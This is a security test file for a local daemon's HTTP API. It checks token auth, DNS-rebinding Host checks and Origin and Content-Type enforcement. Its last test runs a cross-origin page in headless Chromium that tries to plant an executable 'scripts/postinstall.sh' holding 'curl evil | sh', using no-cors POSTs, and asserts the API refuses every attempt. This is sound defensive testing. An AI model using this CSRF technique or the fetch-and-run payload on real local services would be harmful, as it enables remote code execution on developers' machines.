// Issue 8 item 19: the API is not open to web pages. A real headless Chromium page on another origin tries
// what used to land scripts/postinstall.sh into a project head (a no-cors text/plain POST, which needs no
// CORS preflight); raw HTTP checks foreign Host (DNS rebinding) and Origin headers; `mic serve` creates a
// token in a 0600 file that the CLI finds by itself.
import http from 'node:http';
import { statSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../lib/browser.js';
import { listSessions, startDaemon, type Daemon } from '../lib/daemon.js';
import { openCatalog } from '../../src/daemon/data-dir.js';

const PROJECT = 'acme/web';
let d: Daemon;
let token: string;

beforeAll(async () => {
  d = await startDaemon({ env: { MIC_API_PORT: '0' } }); // mic serve's defaults otherwise: a token file is made
  const init = await d.initProject(PROJECT, { 'README.md': 'hi\n', 'package.json': '{}\n' });
  expect(init.code).toBe(0);
  token = readFileSync(join(d.dataDir, 'api-token'), 'utf8').trim();
}, 60_000);

afterAll(async () => {
  await d?.stop();
});

function apiPort(dir = d.dataDir): number {
  return (JSON.parse(readFileSync(join(dir, 'daemon.json'), 'utf8')) as { api_port: number }).api_port;
}

/** A raw request with any headers (Host included, which fetch does not let one set). */
function request(
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string,
  port = apiPort(),
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, method, path, headers, setHost: !('Host' in headers) }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => {
        text += c;
      });
      res.on('end', () => resolve({ status: res.statusCode!, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

async function headFiles(dir = d.dataDir): Promise<string[]> {
  const store = openCatalog(dir).store(PROJECT);
  const head = (await store.getHead())!;
  const out: string[] = [];
  for (const e of await store.listDir(head.record.tree)) {
    out.push(e.name);
    if (e.kind === 'dir') for (const f of await store.listDir(e.hash!)) out.push(`${e.name}/${f.name}`);
  }
  return out.sort();
}

describe('the token', () => {
  it('mic serve creates it 0600 in the data dir; the CLI finds it; requests without it get 401', async () => {
    expect(token.length).toBeGreaterThanOrEqual(32);
    expect(statSync(join(d.dataDir, 'api-token')).mode & 0o777).toBe(0o600);
    const s = await d.startSession(PROJECT, 'found the token'); // the CLI, through the daemon's API
    expect(s.status).toBe('active');
    expect((await request('GET', '/api/sessions', {})).status).toBe(401);
    expect((await request('GET', '/api/sessions', { Authorization: `Bearer ${token}` })).status).toBe(200);
    // the cookie the web UI's login sets (src/ui/auth.ts) is the same check
    expect((await request('GET', '/api/sessions', { Cookie: `other=1; mic_token=${encodeURIComponent(token)}` })).status).toBe(200);
    expect((await request('GET', '/api/sessions', { Cookie: 'mic_token=wrong' })).status).toBe(401);
  });
});

describe('Host and Origin', () => {
  const auth = () => ({ Authorization: `Bearer ${token}` });

  it('a foreign Host (DNS rebinding) gets 403; IP addresses and localhost are served', async () => {
    const port = apiPort();
    const evil = await request('GET', '/api/sessions', { ...auth(), Host: `attacker.example:${port}` });
    expect(evil.status).toBe(403);
    expect(JSON.parse(evil.body)).toMatchObject({ error: 'forbidden_host' });
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`, '127.0.0.1']) {
      expect((await request('GET', '/api/sessions', { ...auth(), Host: host })).status, host).toBe(200);
    }
  });

  it("a foreign Origin gets 403, even with the token; the API's own origin is served", async () => {
    const port = apiPort();
    const evil = await request('GET', '/api/sessions', { ...auth(), Origin: 'http://attacker.example' });
    expect(evil.status).toBe(403);
    expect(JSON.parse(evil.body)).toMatchObject({ error: 'forbidden_origin' });
    expect((await request('GET', '/api/sessions', { ...auth(), Origin: 'null' })).status).toBe(403);
    expect((await request('GET', '/api/sessions', { ...auth(), 'Sec-Fetch-Site': 'cross-site' })).status).toBe(403);
    expect((await request('GET', '/api/sessions', { ...auth(), Origin: `http://127.0.0.1:${port}` })).status).toBe(200);
  });

  it('a body that is not application/json gets 415 and changes nothing', async () => {
    const r = await request(
      'POST',
      '/api/sessions',
      { ...auth(), 'Content-Type': 'text/plain' },
      JSON.stringify({ project: PROJECT, goal: 'x', files: [{ path: 'evil.txt', change_type: 'added', content: 'x' }] }),
    );
    expect(r.status).toBe(415);
    expect(await headFiles()).not.toContain('evil.txt');
  });

  it('configured hosts and origins are allowed', async () => {
    const e = await startDaemon({
      env: { MIC_API_PORT: '0', MIC_API_ALLOW_HOST: 'mic.internal', MIC_API_ALLOW_ORIGIN: 'https://ui.example' },
    });
    try {
      const port = apiPort(e.dataDir);
      const t = readFileSync(join(e.dataDir, 'api-token'), 'utf8').trim();
      const a = { Authorization: `Bearer ${t}` };
      expect(
        (await request('GET', '/api/sessions', { ...a, Host: `mic.internal:${port}`, Origin: 'https://ui.example' }, undefined, port))
          .status,
      ).toBe(200);
      expect((await request('GET', '/api/sessions', { ...a, Host: `other.internal:${port}` }, undefined, port)).status).toBe(403);
      expect((await request('GET', '/api/sessions', { ...a, Origin: 'https://other.example' }, undefined, port)).status).toBe(403);
    } finally {
      await e.stop();
    }
  });
});

describe('a cross-origin web page', () => {
  let browser: Browser | undefined;
  let page: http.Server | undefined;
  afterAll(async () => {
    await browser?.close();
    await new Promise((r) => (page ? page.close(r) : r(undefined)));
  });

  it('cannot land a file, with or without the token file', async () => {
    // also against --no-api-token: the Origin and Content-Type checks stop the page on their own
    const open = await startDaemon({ env: { MIC_API_PORT: '0' }, args: ['--no-api-token'] });
    try {
      expect((await open.initProject(PROJECT, { 'README.md': 'hi\n', 'package.json': '{}\n' })).code).toBe(0);
      const targets = [apiPort(), apiPort(open.dataDir)];
      expect((await request('GET', '/api/sessions', {}, undefined, targets[1])).status).toBe(200); // open indeed
      const html = `<!doctype html><script>
        const files = [{ path: 'scripts/postinstall.sh', change_type: 'added', content: 'curl evil | sh\\n', mode: 493 }];
        const body = JSON.stringify({ project: '${PROJECT}', goal: 'pwned', files });
        window.attack = Promise.all(${JSON.stringify(targets)}.map(async (port) => {
          const results = [];
          for (const init of [
            { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body },
            { method: 'POST', mode: 'no-cors', body: new Blob([body]) },
            { method: 'POST', mode: 'cors', headers: { 'content-type': 'application/json' }, body },
          ]) {
            try { const r = await fetch('http://127.0.0.1:' + port + '/api/sessions', init); results.push(r.type + ':' + r.status); }
            catch (e) { results.push('error:' + e.message); }
          }
          return results;
        }));
      </script>`;
      page = http.createServer((_req, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(html);
      });
      await new Promise<void>((r) => page!.listen(0, '127.0.0.1', r));
      const pagePort = (page.address() as { port: number }).port;
      browser = await launchBrowser();
      const tab = await browser.newPage();
      await tab.goto(`http://127.0.0.1:${pagePort}/`);
      const results = await tab.evaluate(() => (window as unknown as { attack: Promise<string[][]> }).attack);
      expect(results.map((r) => r.length)).toEqual([3, 3]); // every request was tried
      for (const dir of [d.dataDir, open.dataDir]) {
        expect(await headFiles(dir)).toEqual(['README.md', 'package.json']);
        expect((await listSessions(dir)).map((s) => s.goal)).not.toContain('pwned');
      }
      // the daemons saw the requests and refused them (403 before any body was read)
      for (const x of [d, open]) expect(x.logLines((l) => l.msg === 'api request refused').length).toBeGreaterThan(0);
    } finally {
      await open.stop();
    }
  }, 90_000);
});
